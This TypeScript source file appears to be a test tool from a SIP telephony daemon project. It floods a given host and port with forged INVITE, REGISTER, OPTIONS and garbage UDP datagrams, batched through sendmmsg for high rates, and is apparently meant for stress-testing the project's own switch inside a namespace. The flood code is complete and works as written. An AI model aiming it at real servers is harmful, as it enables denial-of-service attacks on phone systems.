//! Runs in a namespace and floods the SIP port from one address: INVITE, REGISTER, OPTIONS and garbage in turn,
//! each a transaction of its own. Many datagrams a system call (sendmmsg), so that the flood costs less than
//! what it does to its victim. Says what it has sent as one line of JSON.
//! Usage: node flood-sender.ts OWN-ADDRESS HOST PORT SECONDS DATAGRAMS-PER-SECOND
import koffi from 'koffi'
import { randomOf } from '../../daemon/sim/forge/attack.ts'
import { loadLibc } from '../../daemon/src/platform/ffi.ts'

const [own = '', host = '', portText = '', secondsText = '', rateText = ''] = process.argv.slice(2)
const port = Number(portText)
const seconds = Number(secondsText)
const perSecond = Number(rateText)

const kinds = ['INVITE', 'REGISTER', 'OPTIONS', 'garbage'] as const
const different = 4_096
const batch = 64
const slotBytes = 1_024
/** Linux, 64 bit: struct iovec, struct mmsghdr. */
const iovecBytes = 16
const headerBytes = 64
const sourcePort = 5_999

const random = randomOf(perSecond)

function text(number: number): string {
  const kind = kinds[number % kinds.length] ?? 'garbage'
  if (kind === 'garbage') {
    const noise = Array.from({ length: 300 }, () => String.fromCharCode(random() * 256)).join('')
    return random() < 0.5 ? noise : `INVITE sip:${noise}`
  }
  const body = kind === 'INVITE' ? `v=0\r\no=- 1 1 IN IP4 ${own}\r\ns=-\r\nt=0 0\r\n` : ''
  const user = 1_000 + Math.floor(random() * 9_000)
  const lines = [
    `${kind} sip:${kind === 'REGISTER' ? '' : '1002@'}${host}:${port} SIP/2.0`,
    `Via: SIP/2.0/UDP ${own}:${sourcePort};rport;branch=z9hG4bKflood${process.pid}x${number}`,
    'Max-Forwards: 70',
    `From: <sip:${user}@${host}>;tag=f${number}`,
    `To: <sip:${kind === 'REGISTER' ? user : 1002}@${host}>`,
    `Call-ID: flood-${process.pid}-${number}`,
    `CSeq: 1 ${kind}`,
    `Contact: <sip:${user}@${own}:${sourcePort}>`,
    ...(body === '' ? [] : ['Content-Type: application/sdp']),
    `Content-Length: ${body.length}`,
  ]
  return `${lines.join('\r\n')}\r\n\r\n${body}`
}

/** Memory that never moves: outside of the heap. */
function fixed(bytes: number): { bytes: Buffer; at: bigint } {
  const memory = Buffer.from(new ArrayBuffer(bytes))
  return { bytes: memory, at: BigInt(koffi.address(memory)) }
}

function datagrams(): { headers: bigint } {
  const texts = fixed(different * slotBytes)
  const vectors = fixed(different * iovecBytes)
  const headers = fixed(different * headerBytes)
  for (let n = 0; n < different; n++) {
    const length = texts.bytes.write(text(n), n * slotBytes, slotBytes, 'latin1')
    vectors.bytes.writeBigUInt64LE(texts.at + BigInt(n * slotBytes), n * iovecBytes)
    vectors.bytes.writeBigUInt64LE(BigInt(length), n * iovecBytes + 8)
    // msg_iov and msg_iovlen; the socket is connected.
    headers.bytes.writeBigUInt64LE(vectors.at + BigInt(n * iovecBytes), n * headerBytes + 16)
    headers.bytes.writeBigUInt64LE(1n, n * headerBytes + 24)
  }
  keep.push(texts.bytes, vectors.bytes, headers.bytes)
  return { headers: headers.at }
}

const keep: Buffer[] = []

function openSocket(): number {
  const loaded = loadLibc()
  if (!loaded.ok) throw new Error(loaded.failure.detail)
  const libc = loaded.value
  const fd = libc.socket(2, 2, 0)
  const address = fixed(16)
  keep.push(address.bytes)
  const place = (text: string, at: number): number => {
    address.bytes.fill(0)
    address.bytes.writeUInt16LE(2, 0)
    address.bytes.writeUInt16BE(at, 2)
    Buffer.from(text.split('.').map(Number)).copy(address.bytes, 4)
    return Number(address.at)
  }
  if (libc.bind(fd, place(own, sourcePort), 16) < 0) throw new Error(`bind: ${libc.errno()}`)
  if (libc.connect(fd, place(host, port), 16) < 0) throw new Error(`connect: ${libc.errno()}`)
  return fd
}

const sendmmsg = koffi
  .load(null)
  .func('sendmmsg', 'int', ['int', 'uintptr_t', 'uint', 'int']) as unknown as (
  fd: number,
  headers: bigint,
  count: number,
  flags: number,
) => number

const fd = openSocket()
const { headers } = datagrams()
const startedMs = performance.now()
let sent = 0

/** At most ten milliseconds' worth at once: what waits for this processor in the kernel is bounded, and it
 * shall be the switch that is flooded. */
function sendDue(): void {
  const elapsedMs = performance.now() - startedMs
  const due = Math.min(
    (Math.min(elapsedMs, seconds * 1_000) * perSecond) / 1_000 - sent,
    perSecond / 100,
  )
  for (let left = Math.floor(due); left > 0; left -= batch) {
    const at = sent % different
    const count = Math.min(left, batch, different - at)
    // An answer that nobody takes comes back as an error once; the next call sends.
    const done = sendmmsg(fd, headers + BigInt(at * headerBytes), count, 0)
    sent += done > 0 ? done : 0
  }
  if (elapsedMs < seconds * 1_000) {
    if (due >= perSecond / 100) setImmediate(sendDue)
    else setTimeout(sendDue, 1)
  } else {
    const took = (performance.now() - startedMs) / 1_000
    console.log(JSON.stringify({ sent, perSecond: Math.round(sent / took) }))
    process.exit(0)
  }
}
sendDue()
